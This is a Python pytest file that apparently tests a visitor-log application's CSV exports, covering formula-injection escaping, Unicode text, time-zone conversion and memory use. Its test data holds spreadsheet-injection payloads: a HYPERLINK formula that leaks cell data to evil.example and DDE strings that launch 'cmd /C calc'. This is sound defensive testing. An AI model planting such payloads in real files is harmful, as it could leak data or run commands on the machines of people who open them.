"""CSV exports of the logs: read back by Python's csv module as a spreadsheet would
read them, formulas made harmless, local times as zoneinfo makes them, and memory
that stays flat as the rows grow. The database writes the lines, so each test runs
on SQLite and on PostgreSQL."""

import csv
import gc
import io
import itertools
import tracemalloc
from datetime import UTC, date, datetime, timedelta
from zoneinfo import ZoneInfo

import pytest
from sqlalchemy import insert

from gatekeeper import exports, search
from gatekeeper.models import Pickup, Site, Visit

NOW = datetime(2026, 3, 10, 18, 0, tzinfo=UTC)
TODAY = NOW.date()
# Each begins a formula, or is stripped before one, in some spreadsheet.
PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1 555 0100",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_back(text: str) -> list[list[str]]:
    """The rows as a spreadsheet would read the file: UTF-8 after the BOM."""
    data = text.encode("utf-8")
    assert data.startswith(b"\xef\xbb\xbf")
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def visit_row(site_id: int, number: int, **values) -> dict:
    arrived = NOW - timedelta(seconds=number)
    row = {
        "site_id": site_id,
        "badge_number": f"{100000 + number}",
        "visitor_name": f"Visitor {number}",
        "company": "Acme Freight",
        "visitor_type": "visitor",
        "host_name": "Grace Hopper",
        "id_type": "passport",
        "id_status": "verified",
        "id_verified_by": "Gina Guard",
        "id_verified_at": arrived,
        "arrived_at": arrived,
        "valid_until": arrived + timedelta(hours=12),
        "admission": "admitted",
        "escort_required": True,
        "escort_name": "Grace Hopper",
    }
    return {**row, **values}


def add_visits(sessions, site_id: int, rows: list[dict]) -> None:
    """Rows written straight to the table: an export reads whatever is stored,
    including values older versions or another program let in."""
    with sessions.begin() as s:
        for start in range(0, len(rows), 5000):
            s.execute(insert(Visit), rows[start : start + 5000])


def export(
    sessions,
    site_id: int,
    log: str = "visits",
    *,
    first: date = TODAY,
    last: date = TODAY,
    type_labels: dict[str, str] | None = None,
) -> str:
    criteria = search.Criteria(log=log, first=first, last=last)
    with sessions() as s:
        site = s.get(Site, site_id)
        chunks = exports.document(s, site, criteria, now=NOW, type_labels=type_labels)
        return "".join(chunks)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_a_spreadsheet_would_run_is_made_text(payload):
    assert exports.neutralise(payload) == "'" + payload


@pytest.mark.parametrize(
    "value", ["Rosa Díaz", "O'Brien", "a=b", "1-2", "", "王芳", "Ana López"]
)
def test_an_ordinary_cell_is_left_as_it_is(value):
    assert exports.neutralise(value) == value


def test_an_export_reads_back_with_every_payload_neutralised(sessions, site):
    rows = [
        visit_row(site.id, number, visitor_name=payload, company=payload)
        for number, payload in enumerate(PAYLOADS)
    ]
    add_visits(sessions, site.id, rows)

    table = read_back(export(sessions, site.id))

    assert table[0][:4] == ["Record", "Date", "Arrived", "Visitor's name"]
    names = [row[3] for row in table[1:]]
    companies = [row[4] for row in table[1:]]
    assert names == ["'" + payload for payload in PAYLOADS]
    assert companies == names


def test_names_in_any_script_survive_and_times_are_the_sites(sessions, site):
    rows = [
        visit_row(site.id, 0, visitor_name="Rosa Díaz", company="Ñandú Logística"),
        visit_row(site.id, 1, visitor_name="王芳", company='Comma, Quote " Co'),
    ]
    add_visits(sessions, site.id, rows)

    table = read_back(export(sessions, site.id))

    assert [row[3] for row in table[1:]] == ["Rosa Díaz", "王芳"]
    assert table[2][4] == 'Comma, Quote " Co'
    # 18:00 UTC is 13:00 in Chicago in March (daylight time).
    assert table[1][1:3] == ["2026-03-10", "2026-03-10 13:00"]
    assert table[1][table[0].index("Photo ID type")] == "Passport"
    assert table[1][table[0].index("Escort required")] == "yes"


def test_a_pickup_export_holds_the_fields_of_the_pickup_log(sessions, site):
    with sessions.begin() as s:
        s.execute(
            insert(Pickup),
            [
                {
                    "site_id": site.id,
                    "status": "departed",
                    "reference": "BOL-1",
                    "driver_name": "=cmd|' /C calc'!A0",
                    "carrier": "Swift Lines",
                    "truck_number": "TX-4411",
                    "trailer_number": "53889",
                    "arrived_at": NOW - timedelta(hours=2),
                    "departed_at": NOW,
                    "seal_number": "UL1234567",
                    "id_type": "carrier_photo_id",
                    "trailer_rechecked": True,
                }
            ],
        )

    table = read_back(export(sessions, site.id, "pickups"))
    row = dict(zip(table[0], table[1], strict=True))

    assert row["Driver's name"] == "'=cmd|' /C calc'!A0"
    assert row["Employer"] == "Swift Lines"
    assert row["Truck number"] == "TX-4411"
    assert row["Trailer number"] == "53889"
    assert row["Seal number at departure"] == "UL1234567"
    assert row["Departed"] == "2026-03-10 13:00"
    assert row["Photo ID checked"] == "Carrier-issued photo ID"


def test_an_export_holds_only_the_range_and_the_site(sessions, site):
    yesterday = NOW - timedelta(days=1)
    add_visits(
        sessions,
        site.id,
        [
            visit_row(site.id, 0),
            visit_row(site.id, 1, arrived_at=yesterday, badge_number="999999"),
        ],
    )

    table = read_back(export(sessions, site.id))

    assert [row[3] for row in table[1:]] == ["Visitor 0"]


def _peak_while_exporting(sessions, site_id: int) -> tuple[int, int, int]:
    """Export the day's visits, dropping each chunk as a client would once sent:
    the peak memory traced above the start, the rows and the bytes produced."""
    criteria = search.Criteria(log="visits", first=date(2026, 3, 9), last=NOW.date())
    gc.collect()
    with sessions() as s:
        site = s.get(Site, site_id)
        tracemalloc.start()
        base, _ = tracemalloc.get_traced_memory()
        produced = lines = 0
        for chunk in exports.document(s, site, criteria, now=NOW, type_labels={}):
            produced += len(chunk.encode("utf-8"))
            lines += chunk.count("\r\n")

        _, peak = tracemalloc.get_traced_memory()
        tracemalloc.stop()

    return peak - base, lines - 1, produced


def test_a_large_export_streams_in_bounded_memory(sessions, site):
    add_visits(sessions, site.id, [visit_row(site.id, n) for n in range(5_000)])
    # Once to warm up, so that compiling the query counts in neither measure.
    _peak_while_exporting(sessions, site.id)
    small_peak, small_rows, _ = _peak_while_exporting(sessions, site.id)

    more = [visit_row(site.id, n) for n in range(5_000, 50_000)]
    add_visits(sessions, site.id, more)
    del more
    large_peak, large_rows, large_bytes = _peak_while_exporting(sessions, site.id)

    assert (small_rows, large_rows) == (5_000, 50_000)
    # Ten times the rows, and megabytes of CSV, in the same memory: what an export
    # holds at once is a batch or two of rows and a chunk of text.
    assert large_bytes > 8_000_000
    assert large_peak < 1.5 * small_peak + 500_000, (small_peak, large_peak)
    assert large_peak < 8_000_000, large_peak


def test_missing_values_are_empty_cells_and_line_breaks_survive(sessions, site):
    missing = {
        "id_verified_by": None,
        "id_verified_at": None,
        "valid_until": None,
        "escort_name": None,
        "id_document_expired": None,
    }
    add_visits(
        sessions,
        site.id,
        [
            visit_row(site.id, 0, company="", **missing),
            visit_row(
                site.id,
                1,
                visitor_name='Ana "Nita"\r\nLópez',
                company="Line one\nLine two, and more",
                host_name="=1+1\n=2+2",
            ),
        ],
    )

    text = export(sessions, site.id)
    table = read_back(text)

    assert len(table) == 3
    names = table[0]
    empty = dict(zip(names, table[1], strict=True))
    broken = dict(zip(names, table[2], strict=True))
    assert broken["Visitor's name"] == 'Ana "Nita"\r\nLópez'
    assert broken["Company"] == "Line one\nLine two, and more"
    assert broken["Point of contact"] == "'=1+1\n=2+2"
    assert broken["Departed"] == ""
    for name in ("ID verified by", "ID verified at", "Badge valid until", "Escort"):
        assert empty[name] == "", name
    assert empty["ID document expired"] == ""
    assert empty["Company"] == ""
    # In the file itself, a missing value is nothing at all, and an empty text
    # a quoted empty string. (The first row has no line break nor comma inside.)
    line = text.removeprefix(exports.BOM).split("\r\n")[1]
    raw = dict(zip(names, line.split(","), strict=True))
    assert raw["ID verified by"] == raw["ID verified at"] == raw["Escort"] == ""
    assert raw["ID document expired"] == raw["Departed"] == ""
    assert raw["Company"] == '""'
    assert raw["Visitor's name"] == '"Visitor 0"'
    assert text.endswith("\r\n")


def test_labels_are_the_sites_words_made_harmless(sessions, site):
    add_visits(
        sessions,
        site.id,
        [
            visit_row(site.id, 0, visitor_type="contractor"),
            visit_row(site.id, 1, visitor_type="=unknown", id_type="+passport"),
        ],
    )
    labels = {"contractor": '=Contractor, "long term"'}

    table = read_back(export(sessions, site.id, type_labels=labels))

    kinds = [row[table[0].index("Visitor type")] for row in table[1:]]
    ids = [row[table[0].index("Photo ID type")] for row in table[1:]]
    assert kinds == ['\'=Contractor, "long term"', "'=unknown"]
    assert ids == ["Passport", "'+passport"]


def _changes_of(zone: ZoneInfo, instants: list[datetime]) -> list[datetime]:
    """The instants, to the microsecond, where the zone's offset changes between
    two neighbours of the list, found by halving."""
    changes = []
    for before, after in itertools.pairwise(instants):
        if before.astimezone(zone).utcoffset() == after.astimezone(zone).utcoffset():
            continue

        low, high = before, after
        while high - low > timedelta(microseconds=1):
            middle = low + (high - low) / 2
            same = (
                middle.astimezone(zone).utcoffset() == low.astimezone(zone).utcoffset()
            )
            low, high = (middle, high) if same else (low, middle)
        changes.append(high)

    return changes


@pytest.mark.parametrize(
    "zone", ["America/Chicago", "America/St_Johns", "Europe/London", "Asia/Kolkata"]
)
def test_local_times_are_zoneinfos_all_year(sessions, site, zone):
    with sessions.begin() as s:
        s.get(Site, site.id).timezone = zone
    local = ZoneInfo(zone)
    start = datetime(2026, 1, 1, tzinfo=UTC)
    # Every 37 minutes through a year, so that every change of offset is crossed,
    # and each change's instant itself, a microsecond before it, and 59.9996
    # seconds into the minute before it (SQLite rounds to the millisecond).
    steps = [start + timedelta(minutes=m) for m in range(0, 365 * 24 * 60, 37)]
    changes = _changes_of(local, steps)
    assert len(changes) == (0 if zone == "Asia/Kolkata" else 2)
    edges = [
        edge - nudge
        for edge in changes
        for nudge in (
            timedelta(0),
            timedelta(microseconds=1),
            timedelta(seconds=0.0004),
        )
    ]
    arrivals = steps + edges
    rows = [
        visit_row(
            site.id,
            number,
            arrived_at=arrived,
            id_verified_at=arrived,
            # Other columns cross the changes at other rows, and end a second
            # short of a whole minute.
            departed_at=arrived + timedelta(hours=2, seconds=59.999999),
            valid_until=arrived + timedelta(hours=12),
        )
        for number, arrived in enumerate(arrivals)
    ]
    add_visits(sessions, site.id, rows)

    table = read_back(
        export(sessions, site.id, first=date(2025, 12, 31), last=date(2027, 1, 1))
    )

    def shown(instant: datetime) -> str:
        return instant.astimezone(local).strftime("%Y-%m-%d %H:%M")

    header, exported = table[0], table[1:]
    assert len(exported) == len(rows)
    column = {name: header.index(name) for name in header}
    by_badge = {row["badge_number"]: row for row in rows}
    for cells in exported:
        row = by_badge[cells[column["Badge number"]]]
        wanted = {
            "Date": shown(row["arrived_at"])[:10],
            "Arrived": shown(row["arrived_at"]),
            "ID verified at": shown(row["id_verified_at"]),
            "Departed": shown(row["departed_at"]),
            "Badge valid until": shown(row["valid_until"]),
        }
        got = {name: cells[column[name]] for name in wanted}
        assert got == wanted, row["arrived_at"]


def test_an_offset_in_seconds_is_kept(sessions, site):
    """Liberia kept UTC-0:44:30 until 1972: a zone suffix cannot say that, and
    SQLite's times are moved by a modifier instead."""
    zone = "Africa/Monrovia"
    with sessions.begin() as s:
        s.get(Site, site.id).timezone = zone
    change = datetime(1972, 1, 7, 0, 44, 30, tzinfo=UTC)
    arrivals = [
        change + timedelta(minutes=minutes, microseconds=micros)
        for minutes in (-24 * 60, -1, 0, 1, 24 * 60)
        for micros in (0, -1, -400)
    ]
    add_visits(
        sessions,
        site.id,
        [
            visit_row(site.id, n, arrived_at=arrived, id_verified_at=arrived)
            for n, arrived in enumerate(arrivals)
        ],
    )

    table = read_back(
        export(sessions, site.id, first=date(1972, 1, 1), last=date(1972, 1, 31))
    )

    arrived = table[0].index("Arrived")
    wanted = [
        instant.astimezone(ZoneInfo(zone)).strftime("%Y-%m-%d %H:%M")
        for instant in sorted(arrivals, reverse=True)
    ]
    assert [row[arrived] for row in table[1:]] == wanted
    # The change at midnight, local time, and a microsecond before it.
    assert wanted[6:8] == ["1972-01-07 00:44", "1972-01-06 23:59"]
